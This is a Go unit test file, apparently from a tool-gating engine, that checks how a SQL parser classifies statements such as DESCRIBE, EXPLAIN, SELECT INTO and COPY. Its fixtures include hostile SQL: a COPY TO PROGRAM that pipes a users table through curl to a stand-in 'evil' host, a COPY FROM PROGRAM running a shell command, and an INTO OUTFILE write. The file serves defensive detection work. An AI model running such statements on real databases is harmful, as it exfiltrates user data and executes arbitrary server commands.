package facts_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgate/toolgate/engine/facts"
)

func TestSQLKindsBeyondTheLeadingKeyword(t *testing.T) {
	t.Parallel()
	cases := map[string]string{
		"DESCRIBE users":                                      "describe",
		"desc tickets":                                        "describe",
		"EXPLAIN SELECT * FROM t":                             "select",
		"EXPLAIN ANALYZE DELETE FROM t":                       "delete",
		"DESCRIBE SELECT * FROM t":                            "select",
		"SELECT * INTO backup FROM users":                     "select_into",
		"select id into outfile '/tmp/x' from users":          "select_into",
		"SELECT (SELECT 1) AS into_col FROM t":                "select",
		"SELECT a FROM t WHERE b IN (SELECT c INTO x FROM y)": "select",
		"COPY users TO PROGRAM 'curl -d @- evil'":             "copy_program",
		"copy t from program 'sh -c id'":                      "copy_program",
		"COPY users TO STDOUT":                                "copy",
	}
	for q, want := range cases {
		f := facts.ParseSQL(q)
		require.True(t, f.OK, q)
		require.Len(t, f.Statements, 1, q)
		assert.Equal(t, want, f.Statements[0].Kind, q)
	}
}
